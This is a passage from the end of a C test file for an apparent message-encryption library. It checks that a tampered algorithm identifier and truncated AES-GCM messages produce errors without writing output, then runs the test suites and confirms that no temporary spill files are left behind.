			CHECK(r == CS_ERR_DECRYPT && on == 0,
			      "AuthEnvelopedData with a CBC algorithm: CS_ERR_DECRYPT, nothing "
			      "written");
			p[10] = 0x2e;
		} else {
			CHECK(0, "AES-256-GCM OID found in the message");
		}
		for (k = 0, bad = 0, wrote = 0; k < n; k += 7) {
			if (read_bytes(&t, msg, eh + k, &on) == 0)
				bad++;
			if (on > 0)
				wrote++;
		}
		CHECK(bad == 0 && wrote == 0, "GCM truncated anywhere: an error, nothing written");
		free(msg);
		free(der);
	}
	rt_free(&t);
}

int
main(void)
{
	if (fixture_setup(&fx) != 0) {
		printf("Bail out! fixtures\n");
		return 1;
	}
	snprintf(pki, sizeof(pki), "%s/pki", fx.dir);
	snprintf(crl, sizeof(crl), "%s/crl", fx.dir);
	setenv("OPENSSL_CONF", "/dev/null", 1);
	test_signed();
	test_encrypted();
	test_nested();
	test_verdicts();
	test_keys();
	test_unprotected_parts();
	test_bad_input();
	{
		/* Nothing is left in the spill directory (it was fx.work: only our own files). */
		DIR *d = opendir(fx.work);
		struct dirent *e;
		int spill = 0;

		while (d != NULL && (e = readdir(d)) != NULL)
			spill += strncmp(e->d_name, "cardseal-spill", 14) == 0;
		if (d != NULL)
			closedir(d);
		CHECK_EQ_INT(spill, 0, "no spill file left behind");
	}
	fixture_teardown(&fx);
	return tap_done();
}
